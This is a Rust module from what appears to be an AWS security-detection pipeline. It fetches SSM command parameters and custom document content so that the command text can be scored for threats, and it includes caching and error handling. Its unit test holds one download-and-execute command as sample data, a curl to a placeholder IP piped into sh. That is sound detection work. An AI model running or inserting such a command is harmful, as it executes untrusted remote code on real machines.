//! SSM enrichment: CloudTrail hides the command's parameters
//! (`HIDDEN_DUE_TO_SECURITY_REASONS`); SSM `ListCommands` by command id returns them, so the
//! command text can be scored. Failure never loses the finding: the event is scored without the
//! text and says why (`enrichment_unavailable`).

use std::time::Duration;

use aws_sdk_ssm::error::{DisplayErrorContext, ProvideErrorMetadata, SdkError};
use cadet_sinks::BoxFuture;

use crate::{cut, TextCache};

/// Something that can fetch a command's text by command id.
pub trait CommandSource: Send + Sync + std::fmt::Debug {
    /// The command's text (`commands` parameter lines joined by newlines), `Ok(None)` when the
    /// command has no such parameter, `Err(reason)` when it could not be fetched.
    fn command_text<'a>(
        &'a self,
        command_id: &'a str,
    ) -> BoxFuture<'a, Result<Option<String>, String>>;
}

/// SSM `ListCommands`.
#[derive(Debug, Clone)]
pub struct SsmCommands {
    client: aws_sdk_ssm::Client,
    timeout: Duration,
}

impl SsmCommands {
    /// With a client built once at init, and a per-call timeout.
    pub fn new(client: aws_sdk_ssm::Client, timeout: Duration) -> SsmCommands {
        SsmCommands { client, timeout }
    }
}

/// Parameter names whose values are the script (AWS-RunShellScript, AWS-RunPowerShellScript use
/// `commands`; AWS-RunRemoteScript points at a source; Ansible at a playbook).
const TEXT_PARAMETERS: [&str; 4] = ["commands", "executionCommand", "sourceInfo", "playbook"];

impl CommandSource for SsmCommands {
    fn command_text<'a>(
        &'a self,
        command_id: &'a str,
    ) -> BoxFuture<'a, Result<Option<String>, String>> {
        Box::pin(async move {
            let call = self.client.list_commands().command_id(command_id).send();
            let out = match tokio::time::timeout(self.timeout, call).await {
                Err(_) => {
                    return Err(format!(
                        "ListCommands timed out after {} ms",
                        self.timeout.as_millis()
                    ))
                }
                Ok(Err(e)) => {
                    let code = match &e {
                        SdkError::ServiceError(se) => se.err().code().map(str::to_string),
                        _ => None,
                    };
                    return Err(code.unwrap_or_else(|| format!("{}", DisplayErrorContext(&e))));
                }
                Ok(Ok(out)) => out,
            };
            let Some(cmd) = out.commands().first() else {
                return Err(format!("command {command_id} not found"));
            };
            let Some(params) = cmd.parameters() else {
                return Ok(None);
            };
            let mut lines = Vec::new();
            for name in TEXT_PARAMETERS {
                if let Some(values) = params.get(name) {
                    lines.extend(values.iter().cloned());
                }
            }
            Ok((!lines.is_empty()).then(|| lines.join("\n")))
        })
    }
}

/// Something that can fetch an SSM document's content.
pub trait DocumentSource: Send + Sync + std::fmt::Debug {
    /// The content (JSON or YAML text) of `version` of the document (`None`: its default
    /// version), `Err(reason)` when it could not be fetched.
    fn document_content<'a>(
        &'a self,
        name: &'a str,
        version: Option<&'a str>,
    ) -> BoxFuture<'a, Result<String, String>>;
}

impl DocumentSource for SsmCommands {
    fn document_content<'a>(
        &'a self,
        name: &'a str,
        version: Option<&'a str>,
    ) -> BoxFuture<'a, Result<String, String>> {
        Box::pin(async move {
            let call = self
                .client
                .get_document()
                .name(name)
                .set_document_version(version.map(str::to_string))
                .send();
            match tokio::time::timeout(self.timeout, call).await {
                Err(_) => Err(format!(
                    "GetDocument timed out after {} ms",
                    self.timeout.as_millis()
                )),
                Ok(Err(e)) => {
                    let code = match &e {
                        SdkError::ServiceError(se) => se.err().code().map(str::to_string),
                        _ => None,
                    };
                    Err(match code.as_deref() {
                        Some("InvalidDocument") => format!(
                            "GetDocument: document {name} not found (deleted right after use?)"
                        ),
                        Some(c) => format!("GetDocument: {c}"),
                        None => format!("GetDocument: {}", DisplayErrorContext(&e)),
                    })
                }
                Ok(Ok(out)) => Ok(out.content().unwrap_or_default().to_string()),
            }
        })
    }
}

/// Longest command text kept for scoring (document content included).
pub const MAX_TEXT_BYTES: usize = 64 * 1024;
/// How long a document fetched by its default version stays cached in the process (`$DEFAULT`
/// can move; a document written or re-pointed in the meantime is re-fetched at once).
pub const DOCUMENT_TTL: Duration = Duration::from_secs(300);
/// How long a numbered document version stays cached in the process (a version's content
/// never changes).
pub const VERSION_TTL: Duration = Duration::from_secs(3600);
/// How long a numbered version stays in the shared [`TextCache`].
pub const SHARED_TTL_SECS: u64 = 30 * 86_400;
const DOCUMENT_CACHE: usize = 512;

/// SSM enrichment for the pipeline: SendCommand parameters (`ListCommands`) and the content
/// of customer-owned documents (`GetDocument`) at SendCommand, CreateAssociation,
/// UpdateAssociation, StartAutomationExecution and CreateDocument/UpdateDocument time.
///
/// Documents are cached by name and version: a numbered version (its content is immutable)
/// for [`VERSION_TTL`] in the process and [`SHARED_TTL_SECS`] in the shared [`TextCache`]
/// when one is set, so a busy document is fetched once for the whole fleet; the default
/// version for [`DOCUMENT_TTL`] in the process only (it can move). A CreateDocument /
/// UpdateDocument reads the exact version it wrote.
#[derive(Debug)]
pub struct SsmEnricher {
    commands: std::sync::Arc<dyn CommandSource>,
    documents: std::sync::Arc<dyn DocumentSource>,
    aws_owned: Vec<String>,
    cache: std::sync::Mutex<std::collections::HashMap<String, (std::time::Instant, String)>>,
    shared: Option<std::sync::Arc<dyn TextCache>>,
}

/// Whether a document version is a fixed number (immutable content), not `$DEFAULT` /
/// `$LATEST` / absent.
fn numbered(version: Option<&str>) -> bool {
    version.is_some_and(|v| !v.is_empty() && v.bytes().all(|b| b.is_ascii_digit()))
}

impl SsmEnricher {
    /// Documents whose names start with one of `aws_owned` (the policy's
    /// `documents.aws_owned_prefixes`) are AWS's and are not fetched.
    pub fn new(
        commands: std::sync::Arc<dyn CommandSource>,
        documents: std::sync::Arc<dyn DocumentSource>,
        aws_owned: Vec<String>,
    ) -> SsmEnricher {
        SsmEnricher {
            commands,
            documents,
            aws_owned,
            cache: Default::default(),
            shared: None,
        }
    }

    /// Adds a cache shared by every instance (the Lambda's DynamoDB table).
    pub fn with_shared_cache(mut self, cache: std::sync::Arc<dyn TextCache>) -> SsmEnricher {
        self.shared = Some(cache);
        self
    }

    fn custom_document<'e>(&self, e: &'e cadet_core::CommandEvent) -> Option<&'e str> {
        let name = e.document.as_ref()?.name.as_str();
        let owned = !name.starts_with("arn:") && self.aws_owned.iter().any(|p| name.starts_with(p));
        (!owned && !name.is_empty()).then_some(name)
    }

    async fn document(
        &self,
        account: &str,
        name: &str,
        version: Option<&str>,
        fresh: bool,
    ) -> Result<String, String> {
        let now = std::time::Instant::now();
        let fixed = numbered(version);
        let key = format!("{name}@{}", version.unwrap_or("$DEFAULT"));
        let ttl = if fixed { VERSION_TTL } else { DOCUMENT_TTL };
        if !fresh || fixed {
            let cache = self.cache.lock().unwrap_or_else(|p| p.into_inner());
            if let Some((at, text)) = cache.get(&key) {
                if now.duration_since(*at) < ttl {
                    return Ok(text.clone());
                }
            }
        }
        // Only immutable versions are shared between instances.
        let shared_key = format!("ssm-document|{account}|{key}");
        let shared = self.shared.as_ref().filter(|_| fixed);
        let mut text = None;
        if let Some(c) = shared {
            match c.get(&shared_key).await {
                Ok(t) => text = t,
                Err(e) => tracing::warn!(error = %e, "shared document cache unreadable; fetching"),
            }
        }
        let text = match text {
            Some(t) => t,
            None => {
                let raw = self.documents.document_content(name, version).await?;
                let t = document_text(&raw);
                if let Some(c) = shared {
                    if let Err(e) = c.put(&shared_key, &t, SHARED_TTL_SECS).await {
                        tracing::warn!(error = %e, "could not share the fetched document");
                    }
                }
                t
            }
        };
        let mut cache = self.cache.lock().unwrap_or_else(|p| p.into_inner());
        if cache.len() >= DOCUMENT_CACHE {
            cache.retain(|_, (at, _)| now.duration_since(*at) < DOCUMENT_TTL);
            if cache.len() >= DOCUMENT_CACHE {
                cache.clear();
            }
        }
        cache.insert(key, (now, text.clone()));
        Ok(text)
    }
}

/// The scriptable text of a document: for JSON content every string value (steps, inputs,
/// `runCommand` lines, embedded scripts), else the content as it is; cut at
/// [`MAX_TEXT_BYTES`].
pub fn document_text(content: &str) -> String {
    fn strings(v: &serde_json::Value, out: &mut Vec<String>) {
        match v {
            serde_json::Value::String(s) => out.push(s.clone()),
            serde_json::Value::Array(a) => a.iter().for_each(|x| strings(x, out)),
            serde_json::Value::Object(o) => o.values().for_each(|x| strings(x, out)),
            _ => {}
        }
    }
    let text = match serde_json::from_str::<serde_json::Value>(content) {
        Ok(v) => {
            let mut out = Vec::new();
            strings(&v, &mut out);
            out.join("\n")
        }
        Err(_) => content.to_string(),
    };
    cut(text, MAX_TEXT_BYTES)
}

const DOCUMENT_OPS: [&str; 6] = [
    "ssm:SendCommand",
    "ssm:CreateAssociation",
    "ssm:UpdateAssociation",
    "ssm:StartAutomationExecution",
    "ssm:CreateDocument",
    "ssm:UpdateDocument",
];

impl cadet_pipeline::Enricher for SsmEnricher {
    fn name(&self) -> &'static str {
        "ssm"
    }

    fn applies(&self, e: &cadet_core::CommandEvent) -> bool {
        // The Session Manager preferences document is audit configuration (its content is in
        // the record), not code to fetch.
        e.operation == "ssm:SendCommand"
            || (e.action != cadet_core::Action::AuditTamper
                && DOCUMENT_OPS.contains(&e.operation.as_str())
                && self.custom_document(e).is_some())
    }

    fn enrich<'a>(&'a self, e: &'a mut cadet_core::CommandEvent) -> BoxFuture<'a, ()> {
        Box::pin(async move {
            let mut parts = Vec::new();
            let mut errors = Vec::new();
            // Cloned, not taken: if the budget runs out mid-way, the event keeps what it had.
            if let Some(text) = e.command_text.clone() {
                parts.push(text);
            }
            if e.operation == "ssm:SendCommand" {
                if let Some(id) = e.command_id.clone() {
                    match self.commands.command_text(&id).await {
                        Ok(Some(t)) => parts.push(t),
                        Ok(None) => {}
                        Err(reason) => errors.push(reason),
                    }
                }
            }
            if let Some(name) = self.custom_document(e).map(str::to_string) {
                // A document being written is fetched fresh: its content just changed.
                let fresh = matches!(
                    e.operation.as_str(),
                    "ssm:CreateDocument" | "ssm:UpdateDocument"
                );
                let version = e.document.as_ref().and_then(|d| d.version.clone());
                match self
                    .document(&e.account, &name, version.as_deref(), fresh)
                    .await
                {
                    Ok(t) if !t.is_empty() => parts.push(t),
                    Ok(_) => {}
                    Err(reason) => errors.push(reason),
                }
            }
            if !parts.is_empty() {
                e.command_text = Some(cut(parts.join("\n"), MAX_TEXT_BYTES));
            }
            if !errors.is_empty() {
                tracing::warn!(operation = %e.operation, errors = ?errors, "SSM enrichment incomplete; scoring with what was fetched");
                e.enrichment_error = Some(errors.join("; "));
            }
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn document_text_collects_every_string_of_a_json_document() {
        let doc = r#"{"schemaVersion":"2.2","description":"x","mainSteps":[{"action":"aws:runShellScript",
            "name":"run","inputs":{"runCommand":["curl -s http://203.0.113.9/s | sh","echo ok"]}}]}"#;
        let t = document_text(doc);
        assert!(
            t.contains("curl -s http://203.0.113.9/s | sh") && t.contains("echo ok"),
            "{t}"
        );
        assert_eq!(
            document_text("mainSteps:\n - run: id"),
            "mainSteps:\n - run: id"
        );
        assert_eq!(
            document_text(&"a".repeat(MAX_TEXT_BYTES + 10)).len(),
            MAX_TEXT_BYTES
        );
    }
}
